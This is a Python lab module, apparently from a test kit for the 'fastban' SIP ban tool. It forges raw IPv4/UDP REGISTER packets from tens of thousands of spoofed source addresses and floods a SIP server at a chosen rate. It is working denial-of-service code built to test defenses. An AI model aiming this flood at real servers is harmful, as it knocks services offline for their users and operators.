"""A spoofed REGISTER flood: every request from another made-up source address (up to 65,534 of
them, 100.64.0.1 to 100.64.255.254, round and round), as a flood that can never be banned by its
sources would look. The lab's forger runs it; the server answers the made-up addresses, which
the router has no route for.

    python -m fastban.lab.flood --destination 192.0.2.10 --rate 3000 --seconds 5

sends through a raw IP socket (the header is ours, the kernel routes it), paced against the
clock, and prints one JSON line: {"sent": N, "seconds": S}. `packets()` gives the same packets
to a faster sender (the benchmark's benchmarks/sender.c, which wants Ethernet frames).
"""

from __future__ import annotations

import argparse
import ipaddress
import json
import socket
import struct
import sys
import time

from fastban.lab.forge import forged_request

FIRST_SOURCE = ipaddress.IPv4Address("100.64.0.1")
MAX_SOURCES = 65534
MAX_SECONDS = 120.0


def _checksum(header: bytes) -> int:
    total = sum(struct.unpack(f"!{len(header) // 2}H", header))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def packets(destination: str, sources: int = MAX_SOURCES, port: int = 5060,
            user: str = "3000", realm: str = "fastban.lab") -> list[bytes]:
    """One IPv4/UDP REGISTER from each of `sources` made-up addresses (UDP checksum 0: none),
    each with its own Call-ID."""
    if not 1 <= sources <= MAX_SOURCES:
        raise ValueError(f"sources must be 1..{MAX_SOURCES}")
    server = ipaddress.IPv4Address(destination).packed
    built = []
    for n in range(sources):
        source = FIRST_SOURCE + n
        source_port = 1024 + n % 30000
        payload = forged_request("REGISTER", str(source), source_port, destination, port, user,
                                 realm, f"flood-{n}@{source}", False)
        udp = struct.pack("!HHHH", source_port, port, 8 + len(payload), 0) + payload
        header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0x4000, 64, 17, 0,
                             source.packed, server)
        header = header[:10] + struct.pack("!H", _checksum(header)) + header[12:]
        built.append(header + udp)
    return built


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(prog="python -m fastban.lab.flood",
                                     description="a spoofed REGISTER flood (lab use only)")
    parser.add_argument("--destination", required=True, help="the SIP server (IPv4)")
    parser.add_argument("--port", type=int, default=5060)
    parser.add_argument("--rate", type=float, required=True, help="packets a second")
    parser.add_argument("--seconds", type=float, required=True)
    parser.add_argument("--sources", type=int, default=MAX_SOURCES)
    args = parser.parse_args(argv)
    if args.rate <= 0 or not 0 < args.seconds <= MAX_SECONDS:
        parser.error(f"--rate must be positive and --seconds 0..{MAX_SECONDS:g}")
    flood = packets(args.destination, args.sources, args.port)
    sender = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    target, sent = (args.destination, 0), 0
    started = time.monotonic()
    try:
        while True:
            now = time.monotonic()
            if now - started >= args.seconds:
                break
            due = int((now - started) * args.rate) + 1
            while sent < due:
                try:
                    sender.sendto(flood[sent % len(flood)], target)
                except OSError:         # the queue is full (ENOBUFS): the sender is the limit
                    break
                sent += 1
            time.sleep(0.001)
    finally:
        sender.close()
        print(json.dumps({"sent": sent, "seconds": round(time.monotonic() - started, 3)}),
              flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
